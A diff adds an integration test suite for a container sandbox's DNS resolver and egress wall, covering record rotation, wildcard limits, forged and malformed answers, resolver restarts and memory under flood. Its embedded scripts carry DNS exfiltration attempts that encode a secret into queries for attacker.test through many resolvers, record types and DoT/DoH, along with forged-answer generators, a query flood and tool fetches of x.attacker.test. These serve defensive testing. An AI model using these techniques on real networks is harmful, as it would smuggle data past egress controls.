@@ -1,0 +1,296 @@
+"""The resolver over time and under attack, in real containers: rotation, bounds, hostile answers,
+restarts. What the lab's DNS server was asked and what reached the sinks decides."""
+
+import json
+import re
+import struct
+
+import pytest
+from conftest import until
+from internet import address_of
+
+# Looks the names up again and again as different programs would, and connects at once to what it
+# is told; also to what it was told before, as a client does that remembers. Prints what failed.
+ROTATION = r"""
+import socket, sys, time
+names, end, seen, failed = sys.argv[2:], time.monotonic() + float(sys.argv[1]), {}, 0
+while time.monotonic() < end:
+    for name in names:
+        told = {i[4][0] for i in socket.getaddrinfo(name, 8443, socket.AF_INET)}
+        old = seen.setdefault(name, [])
+        for address in [*told, *old[-3:]]:
+            try:
+                socket.create_connection((address, 8443), 3).close()
+            except OSError as e:
+                failed += 1
+                print("failed", name, address, e)
+        old += told - set(old)
+    time.sleep(0.1)
+print("rotations", min(map(len, seen.values())), "failed", failed)
+"""
+
+
+def test_ten_minutes_of_rotation(run, dns, sinks):
+    """A record of sixty seconds changes ten times in ten minutes. These say one second, so they are
+    renewed every few: ten changes each in less than a minute, and every address works, at once and
+    for those that remember it."""
+    pools = {f"moving{i}.test": [f"45.31.{i}.{j}" for j in range(1, 251)] for i in range(4)}
+    for name, addresses in pools.items():
+        dns.rotate(name, addresses, ttl=1)
+    allow = " ".join(f"{name}:8443" for name in pools)
+    done = run("python3", "-c", ROTATION, "50", *pools, allow=allow, timeout=90).ok()
+    rotations, failed = map(int, re.search(r"rotations (\d+) failed (\d+)", done.out).groups())
+    assert failed == 0 and rotations >= 10, done
+    assert sinks.addresses() <= {a for addresses in pools.values() for a in addresses}
+    assert {port for _, _, port in sinks.seen()} == {8443}
+
+
+# Every way out by DNS that we know of, for a name no rule allows and one below an allowed name.
+WAYS_OUT = r"""
+import json, socket, ssl, struct, subprocess, sys
+
+secret = sys.argv[1]
+names = [f"{secret}.attacker.test", f"{secret}.api.openai.com"]
+
+
+def wire(name, kind):
+    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
+    return struct.pack("!6H", 7, 256, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)
+
+
+def engine_ports():
+    ports = {53}
+    for file in ("udp", "tcp"):
+        for line in open(f"/proc/net/{file}"):
+            local = line.split()[1]
+            if local.startswith("0B00007F:"):
+                ports.add(int(local[9:], 16))
+    return ports
+
+
+for name in names:
+    for words in ([], ["+tcp"], ["@8.8.8.8"], ["@8.8.8.8", "+tcp"], ["@1.1.1.1", "-p", "5353"],
+                  ["@2001:4860:4860::8888"], ["@127.0.0.11"], ["@127.0.0.11", "+tcp"]):
+        for kind in ("A", "TXT", "NULL", "HTTPS"):
+            subprocess.run(["dig", "+time=1", "+tries=1", *words, kind, name],
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    for address, port in [("127.0.0.11", p) for p in engine_ports()] + [("8.8.8.8", 53)]:
+        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+            message = wire(name, 16)
+            if kind == socket.SOCK_STREAM:
+                message = struct.pack("!H", len(message)) + message
+            try:
+                s = socket.socket(socket.AF_INET, kind)
+                s.settimeout(1)
+                s.connect((address, port))
+                s.send(message)
+                s.recv(512)
+            except OSError:
+                pass
+    for port in (853, 443):  # DNS over TLS, DNS over HTTPS to an address
+        try:
+            raw = socket.create_connection(("8.8.8.8", port), 2)
+            tls = ssl._create_unverified_context().wrap_socket(raw, server_hostname=name)
+            tls.send(wire(name, 16))
+        except OSError:
+            pass
+print(len(engine_ports()))
+"""
+
+
+@pytest.mark.parametrize("user_defined", [False, True], ids=["bridge", "user-defined"])
+def test_no_way_out_by_dns(run, network, dns, sinks, wire, user_defined):
+    name = network() if user_defined else None
+    done = run("python3", "-c", WAYS_OUT, "deadbeef00", network=name, timeout=90).ok()
+    if user_defined:
+        assert int(done.out) > 1, "the engine's real ports are known to the test"
+    assert [q.name for q in dns.asked() if "deadbeef00" in q.name] == []
+    assert dns.asked("attacker.test") == []
+    assert not sinks.carried(b"deadbeef00") and not wire.carried(b"deadbeef00")
+    assert sinks.seen() == []
+
+
+def test_the_same_ways_lead_out_without_the_wall(run, dns):
+    run("python3", "-c", WAYS_OUT, "deadbeef01", init=["--egress=off"], timeout=120).ok()
+    assert {q.type for q in dns.asked("attacker.test")} >= {"A", "TXT", "NULL", "HTTPS"}
+
+
+def test_names_of_addresses_come_from_our_own_table(shell, dns):
+    address = address_of("allowed.test")
+    done = shell(
+        f"dig +short -x {address}; dig +noall +comments -x 9.9.9.9;"
+        f"dig +tcp @8.8.8.8 -x 9.9.9.8; getent hosts 9.9.9.7; true",
+        allow="allowed.test",
+    ).ok()
+    assert done.lines()[0] == "allowed.test." and "NXDOMAIN" in done.out, done
+    assert [q for q in dns.asked() if q.type == "PTR" or q.name.endswith("arpa")] == []
+
+
+def test_a_wildcard_is_bounded_and_says_so(start, dns):
+    """Under *.x a name carries data to x's servers: so many names a minute, and no long ones."""
+    for i in range(150):
+        dns.add(f"n{i}.wild.test", f"45.32.0.{i + 1}")
+    box = start(
+        "bash",
+        "-c",
+        "dig +short $(printf 'n%d.wild.test ' $(seq 0 149)) >/dev/null;"
+        f"dig +short {'0123456789abcdef' * 3}.wild.test; dig +short n0.wild.test; sleep 60",
+        allow="*.wild.test",
+    )
+    box.until_says("45.32.0.1")
+    assert "0123456789abcdef" not in " ".join(q.name for q in dns.asked("wild.test"))
+    # Sixty in each minute, of which the test may have seen the ends of two.
+    assert len({q.name for q in dns.asked("wild.test")}) <= 120
+    events = box.exec("cat", "/run/codex/events.jsonl").ok().out
+    told = [e for e in map(json.loads, events.splitlines()) if e["event"] == "refused-name"]
+    reasons = {e.get("reason") for e in told}
+    assert any("too many in a minute" in r for r in reasons), told
+
+
+def hostile(counts=False):
+    def lie(_, packet):
+        """Says that there are 200 records, and has what it has."""
+        return [packet[:6] + struct.pack("!H", 200) + packet[8:]]
+
+    def aliases(_, packet):
+        """64 KB of them, each to the next, by TCP: the answer by UDP is marked as cut short."""
+        if packet[2] & 2:
+            return [packet]
+        question = packet[12 : packet.index(b"\0", 12) + 5]
+        records, owner = b"", b"\xc0\x0c"
+        for i in range(2400):
+            target = b"\5%05d\1x\4test\0" % i
+            records += owner + struct.pack("!HHIH", 5, 1, 60, len(target)) + target
+            owner = target
+        return [packet[:6] + struct.pack("!HHH", 2400, 0, 0) + question + records[:65000]]
+
+    return lie if counts else aliases
+
+
+@pytest.mark.parametrize("counts", [True, False], ids=["lying-counts", "64-KB-of-aliases"])
+def test_a_hostile_answer_is_dropped_counted_and_reported(start, dns, sinks, counts):
+    dns.forge("allowed.test", hostile(counts))
+    if not counts:
+        dns.truncate("allowed.test")
+    box = start("bash", "-c", "curl -m 9 https://allowed.test; sleep 60", allow="allowed.test")
+    box.until_says("Could not resolve host")
+    assert sinks.seen() == []
+    events = box.exec("cat", "/run/codex/events.jsonl").ok().out
+    dropped = [e for e in map(json.loads, events.splitlines()) if e["event"] == "dropped-answer"]
+    assert any(e.get("name") == "allowed.test" and "malformed" in e["reason"] for e in dropped)
+
+
+def test_forged_answers_are_counted_and_reported(start, dns, sinks):
+    def forge(_, packet):
+        wrong = struct.pack("!H", struct.unpack_from("!H", packet)[0] ^ 0x5555)
+        return [wrong + packet[2:]] * 30 + [packet]
+
+    dns.forge("allowed.test", forge)
+    box = start("sleep", "60", allow="allowed.test")
+    events = lambda: box.exec("cat", "/run/codex/events.jsonl").out  # noqa: E731
+    line = until(lambda: re.search(r'.*"dropped-answer".*forged.*', events()), what="the report")
+    assert 30 <= json.loads(line.group())["count"] <= 60
+    assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0
+    assert sinks.addresses() == {address_of("allowed.test")}
+
+
+def resolver(box):
+    found = box.exec(
+        "bash", "-c", "grep -l codex-resolver /proc/[0-9]*/comm; true", user="1000"
+    ).out.split()
+    return int(found[0].split("/")[2]) if found else None
+
+
+def test_restarts_are_bounded_and_nothing_opens(start, sinks, dns):
+    box = start("sleep", "300", allow="allowed.test")
+    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
+    log = lambda: box.exec("cat", "/run/codex/events.jsonl").out  # noqa: E731
+
+    def end():
+        if pid := resolver(box):
+            box.exec("kill", "-KILL", str(pid))
+        return "resolver" in log() and "stays down" in log()
+
+    until(end, 60, "giving up")
+    assert log().count("is started again") == 8
+    asked = len(dns.asked())
+    sinks.mark()
+    done = box.exec("curl", "-sS", "-m", "3", "https://new.attacker.test/", user="1000")
+    assert done.status != 0 and sinks.seen() == []
+    assert len(dns.asked()) == asked
+
+
+def test_a_flood_takes_no_memory(start):
+    """Everything the resolver will ever use is there when it starts."""
+    box = start("sleep", "60", allow="allowed.test *.wild.test")
+    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
+
+    def size():
+        text = box.exec("cat", f"/proc/{resolver(box)}/status").ok().out
+        return [int(n) for n in re.findall(r"Vm(?:Size|Data|Stk):\s+(\d+)", text)]
+
+    before = size()
+    flood = r"""
+import os, socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect(("8.8.8.8", 53))
+for i in range(30000):
+    name = b"\x08%08d" % i + (b"\4wild" if i % 2 else b"\3bad") + b"\4test\0"
+    try:
+        s.send(struct.pack("!6H", i & 65535, 256, 1, 0, 0, 0) + name + b"\0\1\0\1")
+    except OSError:
+        pass
+keep = []
+for i in range(200):
+    try:
+        keep.append(socket.create_connection(("8.8.8.8", 53), 2))
+    except OSError:
+        pass
+"""
+    box.exec("python3", "-c", flood, user="1000").ok()
+    assert size() == before
+    assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0
+
+
+def test_a_private_service_on_its_own_port(shell, dns, sinks):
+    """+private end to end, with a name that only the search list makes whole."""
+    dns.add("db.corp.test", "10.1.2.9")
+    knock = "timeout 5 bash -c 'exec 3<>/dev/tcp/'db/$p"
+    done = shell(
+        f"for p in 5432 5433 443; do {knock}; echo $?; done",
+        allow="db:5432+private",
+        options=["--dns-search", "corp.test"],
+    ).ok()
+    assert done.lines() == ["0", "1", "1"], done
+    assert sinks.seen() == [("tcp", "10.1.2.9", 5432)]
+    assert {q.name for q in dns.asked("corp.test")} == {"db.corp.test"}
+
+
+def test_letters_are_mixed_on_the_wire(run, dns):
+    """For a forger to guess; the payload's own spelling has no part in it."""
+    run("true", allow="abcdefghijklmnopqrstuvwxyz.test").ok()
+    wires = b"".join(q.wire[12:] for q in dns.asked())
+    assert re.search(rb"[A-Z]", wires) and re.search(rb"[a-z]", wires)
+
+
+TOOLS = [
+    "curl -sS -o /dev/null https://{name}/",
+    "git ls-remote https://{name}/x.git",
+    "node -e 'fetch(\"https://{name}/\").then(() => process.exit(0), () => process.exit(1))'",
+    "python3 -c 'import urllib.request as u; u.urlopen(\"https://{name}/\").read()'",
+]
+
+
+@pytest.mark.parametrize("tool", TOOLS, ids=["curl", "git", "node", "python"])
+def test_glibc_tools_resolve_what_is_allowed_and_fail_fast_on_the_rest(shell, sinks, dns, tool):
+    # git reaches its server, which has no such repository.
+    shell(tool.format(name="allowed.test") + "; true", allow="allowed.test").ok()
+    assert sinks.seen() and set(sinks.seen()) == {("tcp", address_of("allowed.test"), 443)}
+    sinks.mark()
+    done = shell(
+        "cat >/tmp/tool <<'E'\n" + tool.format(name="x.attacker.test") + "\nE\n"
+        "timeout 10 bash /tmp/tool; echo $?",
+        allow="allowed.test",
+    ).ok()
+    assert done.lines()[-1] not in ("0", "124"), done
+    assert sinks.seen() == [] and dns.asked("attacker.test") == []
